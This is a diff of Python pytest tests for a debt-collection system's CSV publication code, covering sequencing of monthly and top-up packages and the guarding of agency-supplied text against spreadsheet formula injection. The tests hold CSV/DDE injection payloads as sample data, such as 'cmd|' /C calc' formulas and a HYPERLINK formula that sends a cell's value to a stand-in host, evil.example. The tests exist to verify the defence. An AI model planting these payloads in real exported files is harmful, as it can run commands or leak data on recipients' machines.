@@ -4,15 +4,19 @@ from __future__ import annotations
 
 import datetime as dt
 import hashlib
+import importlib.util
 import json
 import logging
+import re
 from collections.abc import Iterator
 from decimal import Decimal
 from pathlib import Path
+from typing import Any
 
 import duckdb
 import pytest
 
+from recouvra.exchange.csvparse import begins_formula, parse_rows, unguard
 from recouvra.ledger import load_ledger, load_ledger_before
 from recouvra.publication import (
     ASSIGNMENT_COLUMNS,
@@ -21,6 +25,7 @@ from recouvra.publication import (
     Package,
     PaymentNoticeRow,
     Publication,
+    PublicationConflictError,
     PublicationError,
     PublishedFile,
     RecallRow,
@@ -188,6 +193,19 @@ def test_malformed_optional_typed_values_are_left_empty(caplog: pytest.LogCaptur
     assert "phone_1" in caplog.text and "email" in caplog.text
 
 
+@pytest.mark.parametrize("email", ["=cmd|'/Ccalc'!A0@evil.ma", "+1@x.ma", "-2+3@x.ma"])
+def test_an_email_that_would_run_as_a_formula_is_left_empty_never_prefixed(
+    email: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    from dataclasses import replace
+
+    with caplog.at_level(logging.WARNING, logger="recouvra.publication"):
+        rows = parse_rows(render_assignment([replace(ROW_1, email=email)]).decode())
+    cells = dict(zip(ASSIGNMENT_COLUMNS, rows[1].cells, strict=True))
+    assert cells["email"] == "" and cells["phone_1"] == "+212522123456"  # E.164 keeps its '+'
+    assert "D202611-000001: email" in caplog.text and "begins like a spreadsheet formula" in caplog.text
+
+
 def test_required_free_text_must_not_be_empty() -> None:
     from dataclasses import replace
 
@@ -240,8 +258,9 @@ def add_debtor_version(
 def add_dossier(
     wh: Warehouse, dossier_id: str, debtor_id: int, agency: str,
     periods: list[tuple[dt.date, str, str]], *, status: str = "ALLOCATED", created: dt.datetime = CREATED,
+    start: dt.date = NOV,
 ) -> None:
-    """A dossier of November 2026 with its detail rows (amounts consistent)."""
+    """A dossier of November 2026 with its detail rows (amounts consistent), its window from ``start``."""
     sums = {"PRINCIPAL": D(0), "SURCHARGE": D(0), "PENALTY": D(0)}
     for period, kind, amount in periods:
         sums[kind] += D(amount)
@@ -251,10 +270,20 @@ def add_dossier(
     wh.execute(
         "INSERT INTO core.dossier VALUES (?, ?, ?, ?, ?, 'FRESH', NULL, ?, ?, 0.0300, 30000.00, ?, ?, ?, ?, "
         "?, ?, ?, ?, ?, ?)",
-        [dossier_id, NOV, debtor_id, f"{debtor_id:07d}", agency, NOV, dt.date(2027, 4, 30), len(months),
+        [dossier_id, NOV, debtor_id, f"{debtor_id:07d}", agency, start, dt.date(2027, 4, 30), len(months),
          months[0], months[-1], sums["PRINCIPAL"], sums["SURCHARGE"], sums["PENALTY"], sum(sums.values()),
          status, created.date(), created],
     )
+
+
+def add_run(wh: Warehouse, seq: int, start: dt.date) -> None:
+    """Run ``seq`` of November 2026 in core.selection_run (1 the month's selection, 2 its top-up)."""
+    wh.execute(
+        "INSERT INTO core.selection_run (selection_month, selection_seq, assignment_start, as_of_date, seed, "
+        "dossiers_target, debtors_considered, debtors_eligible, dossiers_selected, likelihood_source, "
+        "likelihood_coefficients, results_months, share_rule, agency_shares, balance_met, balance_draws, "
+        "decided_at) VALUES (?, ?, ?, ?, 1, 4, 4, 4, 1, 'PRIOR', '{}', 0, 'CAPACITY', '{}', true, 1, ?)",
+        [NOV, seq, start, start, CREATED])
 
 
 def seed(wh: Warehouse) -> None:
@@ -324,7 +353,7 @@ def test_missing_debtor_version_at_creation_is_an_error(wh: Warehouse, tmp_path:
         build_packages(wh, dt.date(2026, 11, 1), tmp_path)
 
 
-def test_record_marks_published_and_seq_follows_content(wh: Warehouse, tmp_path: Path) -> None:
+def test_record_marks_published_and_seq_follows_the_selection_run(wh: Warehouse, tmp_path: Path) -> None:
     packages = build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T0)
     summary = record_publication(wh, [published(p).to_dict() for p in packages])
     assert summary.files_logged == 6 and summary.dossiers_published == 3
@@ -337,15 +366,39 @@ def test_record_marks_published_and_seq_follows_content(wh: Warehouse, tmp_path:
     record_publication(wh, [published(p, "2026-11-01T07:00:00Z") for p in packages])
     assert wh.query("SELECT count(*) FROM core.publication_log") == [(6,)]
 
-    # same content: same SEQ (republish); a dossier added to the month: the next SEQ, complete package
+    # same content: same SEQ (republish)
     again = {p.agency: p for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T1)}
     assert again["AG01"].seq == 1
+    # a dossier slipped into the published month's selection would change what AG01 holds under _01:
+    # refused, never a replacement package
     add_debtor_version(wh, 4, "Delta", valid_from=dt.datetime(2026, 6, 1))
     add_dossier(wh, "D202611-000004", 4, "AG01", [(dt.date(2026, 3, 1), "PRINCIPAL", "5.00")])
-    after = {p.agency: p for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T1)}
-    assert after["AG01"].seq == 2 and after["AG02"].seq == 1
-    assert after["AG01"].files[0].name == "CNSS_ASSIGN_AG01_202611_02.csv"
-    assert after["AG01"].dossier_ids == ("D202611-000001", "D202611-000002", "D202611-000004")
+    with pytest.raises(PublicationConflictError, match=r"SEQ 01 was already published with other content.*"
+                                                       r"\[agency AG01\]"):
+        build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T1)
+    # the month's top-up (its run 2, whose dossiers start on the top-up's day) goes out under _02, alone
+    wh.execute("DELETE FROM core.dossier_period WHERE dossier_id = 'D202611-000004'")
+    wh.execute("DELETE FROM core.dossier WHERE dossier_id = 'D202611-000004'")
+    top_up_day = dt.date(2026, 11, 16)
+    add_dossier(wh, "D202611-000004", 4, "AG01", [(dt.date(2026, 3, 1), "PRINCIPAL", "5.00")],
+                start=top_up_day)
+    add_run(wh, 1, NOV)
+    add_run(wh, 2, top_up_day)
+    after = {(p.agency, p.seq): p for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T1)}
+    assert sorted(after) == [("AG01", 1), ("AG01", 2), ("AG02", 1)]
+    assert [Path(f.path).read_bytes() for f in after[("AG01", 1)].files] == [
+        Path(f.path).read_bytes() for f in again["AG01"].files]  # _01 as published, byte for byte
+    assert after[("AG01", 2)].files[0].name == "CNSS_ASSIGN_AG01_202611_02.csv"
+    assert after[("AG01", 2)].dossier_ids == ("D202611-000004",)
+    only_top_up = build_packages(wh, dt.date(2026, 11, 1), tmp_path / "top", now=T1, selection_seq=2)
+    assert [(p.agency, p.seq, p.dossier_ids) for p in only_top_up] == [("AG01", 2, ("D202611-000004",))]
+    # an agency the month's selection gave nothing gets the top-up as its first package: _01
+    add_debtor_version(wh, 5, "Epsilon", valid_from=dt.datetime(2026, 6, 1))
+    add_dossier(wh, "D202611-000005", 5, "AG03", [(dt.date(2026, 3, 1), "PRINCIPAL", "9.00")],
+                start=top_up_day)
+    only_top_up = build_packages(wh, dt.date(2026, 11, 1), tmp_path / "top", now=T1, selection_seq=2)
+    assert [(p.agency, p.seq, p.files[0].name) for p in only_top_up] == [
+        ("AG01", 2, "CNSS_ASSIGN_AG01_202611_02.csv"), ("AG03", 1, "CNSS_ASSIGN_AG03_202611_01.csv")]
 
 
 def test_assignment_and_recall_files_load_in_the_returns_validator(wh: Warehouse, tmp_path: Path) -> None:
@@ -456,3 +509,116 @@ def test_payment_rows_keep_their_sign_rules() -> None:
         render_payments([PaymentNoticeRow("D202611-000001", 2, NOV, D("5"), NOV, "REVERSAL", 1)])
     with pytest.raises(PublicationError, match="is negative"):
         amount_cell(D("-5"))
+
+
+# ------------------------------------------------------- agency-supplied text through to the fund's files
+def _ingest_world() -> Any:
+    """tests/unit/ingest/test_load.py's warehouse: debtors 1 and 3 with AG01 (D1, D3), 2 with AG02."""
+    spec = importlib.util.spec_from_file_location(
+        "ingest_load_world", Path(__file__).parent / "ingest" / "test_load.py")
+    assert spec and spec.loader
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+HOSTILE_LINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+HOSTILE_CONTACTS = [  # (dossier, update_id, field, value as the agency sent it)
+    ("D202611-000001", "C1", "ADDRESS", HOSTILE_LINK),
+    ("D202611-000001", "C2", "CITY", "+cmd|' /C calc'!A0"),
+    ("D202611-000001", "C3", "LEGAL_REP", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("D202611-000001", "C4", "EMAIL", "=cmd|'/Ccalc'!A0@evil.ma"),  # a lawful address, and a formula
+    ("D202611-000001", "C5", "PHONE", "+212 6 12 34 56 78"),  # a phone: E.164, never prefixed
+    ("D202611-000003", "C6", "ADDRESS", "\t-2+3"),
+    ("D202611-000003", "C7", "CITY", "\r@SUM(A1:A9)"),
+    ("D202611-000003", "C8", "LEGAL_REP", "-2+3"),
+    ("D202611-000003", '=HYPERLINK("http://evil.example/id")', "PHONE", "=1+2"),  # E012: rejected
+]
+
+
+def _assert_no_cell_runs(path: Path) -> list[dict[str, str]]:
+    """Every cell of a CSV the fund wrote: none a spreadsheet would run, an E.164 phone aside.
+    Returns the data rows as {column: cell}."""
+    rows = [r.cells for r in parse_rows(path.read_text(encoding="utf-8"), file=path.name) if not r.blank]
+    for cells in rows[1:]:
+        for column, cell in zip(rows[0], cells, strict=True):
+            phone = column.startswith("phone") and re.fullmatch(r"\+[0-9]{8,15}", cell)
+            signed = column in {"amount", "total_due", "commission_this_month"} and re.fullmatch(
+                r"-[0-9]+\.[0-9]{2}", cell)
+            assert not begins_formula(cell) or phone or signed, (path.name, column, cell)
+    return [dict(zip(rows[0], cells, strict=True)) for cells in rows[1:]]
+
+
+def test_agency_contact_values_are_stored_verbatim_and_every_file_the_fund_writes_guards_them(
+    tmp_path: Path,
+) -> None:
+    from recouvra.ingest import ingest_file
+    from recouvra.kpi import load_kpis
+    from recouvra.report import render_report
+
+    world = _ingest_world()
+    processed = dt.datetime(2026, 11, 25, 10, 0, tzinfo=dt.UTC)
+    with connect(f"duckdb:///{(tmp_path / 'wh.duckdb').as_posix()}") as wh:
+        migrate_connection(wh)
+        world.seed(wh)
+        contacts = world.write(tmp_path / "spool", "AG01_CONTACTS_20261125_01.csv", "CONTACTS", [
+            [d, u, f, v, "2026-11-10", "agency visit"] for d, u, f, v in HOSTILE_CONTACTS])
+        result = ingest_file(wh, contacts, "AG01", world.AS_OF, world.T0, now=processed)
+
+        # Stored verbatim: the cell as sent, and the golden record without any quote added.
+        assert (result["status"], result["rows_accepted"], result["rows_rejected"]) == ("PARTIAL", 8, 1)
+        sent = {u: v for _, u, _, v in HOSTILE_CONTACTS[:-1]}
+        assert dict(wh.query("SELECT update_id, value FROM core.agency_contact_update")) == sent
+        assert wh.query("SELECT raw_line FROM core.return_reject") == [
+            ('D202611-000003;"=HYPERLINK(""http://evil.example/id"")";PHONE;=1+2;2026-11-10;agency visit',)]
+        golden = {d: r for d, *r in wh.query(
+            "SELECT debtor_id, address, city, legal_rep_name, email, phone_1, phone_2 FROM core.dim_debtor "
+            "WHERE debtor_id IN (1, 3) ORDER BY 1")}
+        assert golden == {
+            1: [HOSTILE_LINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+                "=cmd|'/ccalc'!a0@evil.ma", "+212612345678", "+212522123456"],
+            3: ["-2+3", "@SUM(A1:A9)", "-2+3", "contact@atlas.ma", None, None],  # blanks squeezed
+        }
+
+        # The acknowledgement: the agency's own id and the fund's detail, guarded.
+        rejects = Path(result["rejects_path"])
+        assert _assert_no_cell_runs(rejects) == [{
+            "line_no": "10", "record_id": "'=HYPERLINK(\"http://evil.example/id\")", "reason_code": "E012",
+            "detail": "value '=1+2' is not a valid Moroccan phone number"}]
+
+        # The next month's assignment carries the debtors as the agency updated them, guarded.
+        dec = dt.date(2026, 12, 1)
+        for seq, debtor in ((1, 1), (2, 3)):
+            dossier = f"D202612-00000{seq}"
+            wh.execute("INSERT INTO core.dossier_period VALUES (?, DATE '2026-06-01', 'PRINCIPAL', 700, "
+                       "NULL)", [dossier])
+            wh.execute(
+                "INSERT INTO core.dossier (dossier_id, assignment_month, debtor_id, affiliation_no, "
+                "agency_code, segment, assignment_start, assignment_end, commission_rate, commission_cap, "
+                "periods_count, oldest_period, newest_period, principal_due, surcharges_due, penalties_due, "
+                "total_due, status, status_date, created_at) VALUES (?, ?, ?, ?, 'AG01', 'FRESH', ?, "
+                "DATE '2027-05-31', 0.03, 30000, 1, DATE '2026-06-01', DATE '2026-06-01', 700, 0, 0, 700, "
+                "'ALLOCATED', ?, TIMESTAMP '2026-12-01 05:00:00')",
+                [dossier, dec, debtor, f"100000{debtor}", dec, dec])
+        (package,) = build_packages(wh, dec, tmp_path / "out", now=T1)
+        assign = _assert_no_cell_runs(Path(package.files[0].path))
+        _assert_no_cell_runs(Path(package.files[1].path))
+        shown = {r["dossier_id"]: [r[c] for c in ("address", "city", "legal_rep_name", "email", "phone_1",
+                                                   "phone_2")] for r in assign}
+        assert shown == {
+            "D202612-000001": ["'" + HOSTILE_LINK, "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0",
+                               "",  # an e-mail is never prefixed: one that would run is left out
+                               "+212612345678", "+212522123456"],
+            "D202612-000002": ["'-2+3", "'@SUM(A1:A9)", "'-2+3", "contact@atlas.ma", "", ""],
+        }
+        # what an agency reads back without the guard is what the warehouse holds
+        assert [unguard(c) for c in shown["D202612-000001"][:3]] == golden[1][:3]
+
+        # The monthly report: no agency text reaches it; its figures count the updates.
+        load_kpis(wh, NOV)
+        html = render_report(wh, NOV, tmp_path / "reports").read_text(encoding="utf-8")
+        for payload in ("HYPERLINK", "evil", "cmd|", "SUM(", "-2+3"):
+            assert payload not in html
+        (rate,) = wh.query("SELECT data_update_rate FROM marts.v_agency_league "
+                           "WHERE agency_code = 'AG01' AND as_of_month = ?", [NOV])[0]
+        assert rate == 1 and "<td>100.0 %</td></tr>" in html  # both AG01 dossiers updated
